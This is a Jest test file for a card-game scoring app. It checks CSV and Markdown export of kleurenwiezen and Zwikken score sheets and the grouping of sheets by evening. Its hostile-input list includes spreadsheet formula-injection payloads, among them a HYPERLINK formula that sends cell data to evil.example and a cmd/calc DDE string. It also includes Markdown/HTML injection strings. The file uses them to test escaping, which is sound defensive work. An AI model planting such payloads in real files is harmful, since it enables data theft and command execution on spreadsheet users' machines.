import { describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { eveningsCsv, sheetCsv, toCsv } from '../../src/evening/csv.js';
import { eveningOf, eveningsOf, isEveningDate } from '../../src/evening/evening.js';
import { eveningsMarkdown, mdEscape, sheetOnlyMarkdown } from '../../src/evening/markdown.js';
import { sheet, vrijdagA, vrijdagB, vrijdagZwikken } from './fixtures.js';

// Hand-worked totals: see fixtures.ts. Evening: Ann -15 + 5 = -10, Bert 20 - 11 = 9, Cis 10 + 1 = 11,
// Dirk 20 (sheet A only), Eva 5 (sheet B only).
const SHEET_A_CSV = `sheet,title,game,rules,evening
2026-11-27-kleurenwiezen,Vrijdag,kleurenwiezen,lodige,2026-11-27
deal,dealer,contract,Ann,Bert,Cis,Dirk
1,Ann,Bert + Dirk samen 8: 9 tricks,0,10,0,10
2,Bert,Ann solo 6: 5 tricks,-15,10,10,10
total,,,-15,20,10,20
next dealer,Cis
`;

const SHEET_B_CSV = `sheet,title,game,rules,evening
2026-11-27-kleurenwiezen-2,,kleurenwiezen,cardgames,2026-11-27
deal,dealer,contract,Ann,Bert,Cis,Eva
1,Ann,Ann + Eva vragen: 9 tricks,2,-2,-2,2
2,Bert,Bert alleen: 4 tricks,3,-9,3,3
total,,,5,-11,1,5
next dealer,Cis
`;

describe('CSV', () => {
  test('one sheet: a row per deal, the totals row, who deals next', () => {
    expect(sheetCsv(vrijdagA(), 'en')).toBe(SHEET_A_CSV);
  });

  test("an evening: each sheet in playing order, then each player's totals per game", () => {
    // Given out of order: the evening sorts by start time.
    const text = eveningsCsv(eveningsOf([vrijdagB(), vrijdagA()]), 'en');
    expect(text).toBe(`${SHEET_A_CSV}
${SHEET_B_CSV}
totals per game,2026-11-27
player,kleurenwiezen (points)
Ann,-10
Bert,9
Cis,11
Dirk,20
Eva,5
`);
  });

  test('Zwikken money stays apart from points, to the cent, with the pot column', () => {
    // Totals from fixtures.ts (spec/zwikken.md example); Eva played no Zwikken: empty cell.
    const text = eveningsCsv(eveningsOf([vrijdagA(), vrijdagB(), vrijdagZwikken()]), 'en');
    expect(text).toBe(`${SHEET_A_CSV}
${SHEET_B_CSV}
sheet,title,game,rules,evening
2026-11-27-zwikken,Pot,zwikken,standard,2026-11-27
deal,dealer,contract,Ann,Bert,Cis,Dirk,pot
1,Ann,"Ann, Bert asked; Ann won",0.30,-0.50,-0.10,-0.10,0.40
2,Bert,Cis asked; Dirk won but had passed,0.00,0.00,-0.40,0.00,0.80
3,Cis,"all passed, searched once",-0.10,-0.10,-0.10,-0.10,1.20
total,,,0.20,-0.60,-0.60,-0.20,1.20
next dealer,Dirk

totals per game,2026-11-27
player,kleurenwiezen (points),zwikken (money)
Ann,-10,0.20
Bert,9,-0.60
Cis,11,-0.60
Dirk,20,-0.20
Eva,5,
`);
  });

  test('labels follow the language', () => {
    expect(sheetCsv(vrijdagA(), 'nl').split('\n').slice(0, 3)).toEqual([
      'blad,titel,spel,regels,avond',
      '2026-11-27-kleurenwiezen,Vrijdag,kleurenwiezen,lodige,2026-11-27',
      'gift,gever,contract,Ann,Bert,Cis,Dirk',
    ]);
  });

  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", '-1', '@x', '-2+3'];
  test.each(hostile)('a title %j comes back as text behind a quote, never as a formula', (title) => {
    const s = sheet(
      'kleurenwiezen',
      ["O'Brien", 'Jean-Pierre', 'a_b c', '3.14'],
      ["samen 8 --by O'Brien,Jean-Pierre --tricks 7", 'solo 6 --by 3.14 --tricks 8'],
      {
        id: 'x-1',
        title,
        createdAt: '2026-11-27T12:00:00.000Z',
      },
    );
    const text = sheetCsv(s, 'en');
    const rows = parse(text, { relax_column_count: true }) as string[][];
    expect(rows[1][1]).toBe(`'${title}`);
    expect(rows[2]).toEqual(['deal', 'dealer', 'contract', "O'Brien", 'Jean-Pierre', 'a_b c', '3.14']);
    // samen 8 with 7 tricks: base 7 + 3*1 = 10 lost by each declarer, gained by each opponent.
    // solo 6 with 8 tricks: 12 + 3*2 = 18 for the declarer. Totals: -10, -10, 10, 28.
    expect(text).toContain('\ntotal,,,-10,-10,10,28\n');
    const typed = parse(text, { relax_column_count: true, cast: true }) as unknown[][];
    expect(typed[5]).toEqual(['total', '', '', -10, -10, 10, 28]);
    // Every cell is a plain number or text that a spreadsheet will not evaluate.
    for (const row of rows)
      for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("escaping is the library's: tab and carriage return too, numbers untouched, quotes doubled", () => {
    const text = toCsv([['\tx', '\rx', 'a,b', 'say "hi"', -3, { cents: -5 }, null]]);
    expect(text).toBe(`'\tx,"'\rx","a,b","say ""hi""",-3,-0.05,\n`);
  });
});

describe('Markdown', () => {
  test('one sheet: a padded pipe table with signed amounts, and who deals next', () => {
    expect(sheetOnlyMarkdown(vrijdagA(), 'en')).toBe(`### Vrijdag
kleurenwiezen (lodige), evening 2026-11-27, sheet 2026-11-27-kleurenwiezen

| deal  | dealer | contract                      | Ann | Bert | Cis | Dirk |
|-------|--------|-------------------------------|----:|-----:|----:|-----:|
| 1     | Ann    | Bert + Dirk samen 8: 9 tricks |   0 |  +10 |   0 |  +10 |
| 2     | Bert   | Ann solo 6: 5 tricks          | -15 |  +10 | +10 |  +10 |
| total |        |                               | -15 |  +20 | +10 |  +20 |

Next dealer: Cis
`);
  });

  test('an evening: a heading, each sheet, the totals per game', () => {
    expect(eveningsMarkdown(eveningsOf([vrijdagA(), vrijdagB()]), 'en')).toBe(`## Evening of 2026-11-27

### Vrijdag
kleurenwiezen (lodige), evening 2026-11-27, sheet 2026-11-27-kleurenwiezen

| deal  | dealer | contract                      | Ann | Bert | Cis | Dirk |
|-------|--------|-------------------------------|----:|-----:|----:|-----:|
| 1     | Ann    | Bert + Dirk samen 8: 9 tricks |   0 |  +10 |   0 |  +10 |
| 2     | Bert   | Ann solo 6: 5 tricks          | -15 |  +10 | +10 |  +10 |
| total |        |                               | -15 |  +20 | +10 |  +20 |

Next dealer: Cis

### 2026-11-27-kleurenwiezen-2
kleurenwiezen (cardgames), evening 2026-11-27

| deal  | dealer | contract                   | Ann | Bert | Cis | Eva |
|-------|--------|----------------------------|----:|-----:|----:|----:|
| 1     | Ann    | Ann + Eva vragen: 9 tricks |  +2 |   -2 |  -2 |  +2 |
| 2     | Bert   | Bert alleen: 4 tricks      |  +3 |   -9 |  +3 |  +3 |
| total |        |                            |  +5 |  -11 |  +1 |  +5 |

Next dealer: Cis

### Totals per game

| player | kleurenwiezen (points) |
|--------|-----------------------:|
| Ann    |                    -10 |
| Bert   |                     +9 |
| Cis    |                    +11 |
| Dirk   |                    +20 |
| Eva    |                     +5 |
`);
  });

  test('money in Markdown: two decimals, signed; the pot unsigned, as on the sheet', () => {
    const md = sheetOnlyMarkdown(vrijdagZwikken(), 'en');
    expect(md).toContain(
      '| 1     | Ann    | Ann, Bert asked; Ann won           | +0.30 | -0.50 | -0.10 | -0.10 | 0.40 |',
    );
    expect(md).toContain(
      '| total |        |                                    | +0.20 | -0.60 | -0.60 | -0.20 | 1.20 |',
    );
  });

  test.each([
    ['a | b', 'a \\| b'],
    ['*bold* _it_', '\\*bold\\* \\_it\\_'],
    ['# kop', '\\# kop'],
    ['<script>', '\\<script\\>'],
    ['[x](http://y)', '\\[x\\](http://y)'],
  ])('a title %j cannot break the table or turn into markup', (title, escaped) => {
    expect(mdEscape(title)).toBe(escaped);
    const md = sheetOnlyMarkdown(
      sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], [], {
        id: 'x-1',
        title,
        createdAt: '2026-11-27T12:00:00.000Z',
      }),
      'en',
    );
    expect(md.split('\n')[0]).toBe(`### ${escaped}`);
  });
});

describe('evenings', () => {
  test.each([
    ['2026-11-29', true],
    ['2026-02-29', false],
    ['2028-02-29', true],
    ['2026-13-01', false],
    ['29-11-2026', false],
    ['2026-11-29x', false],
  ])('%s is a date: %s', (text, ok) => {
    expect(isEveningDate(text)).toBe(ok);
  });

  test('a sheet belongs to the local date it was started', () => {
    const d = new Date(2026, 10, 29, 23, 59); // local time
    expect(eveningOf(d.toISOString())).toBe('2026-11-29');
    expect(eveningOf(new Date(2026, 10, 30, 0, 5).toISOString())).toBe('2026-11-30');
  });

  test('evenings come oldest first, sheets in playing order', () => {
    const late = sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], [], {
      id: 'late',
      createdAt: '2026-12-04T12:00:00.000Z',
    });
    const groups = eveningsOf([late, vrijdagB(), vrijdagA()]);
    expect(groups.map((e) => [e.date, e.sheets.map((s) => s.data.id)])).toEqual([
      ['2026-11-27', ['2026-11-27-kleurenwiezen', '2026-11-27-kleurenwiezen-2']],
      ['2026-12-04', ['late']],
    ]);
  });
});
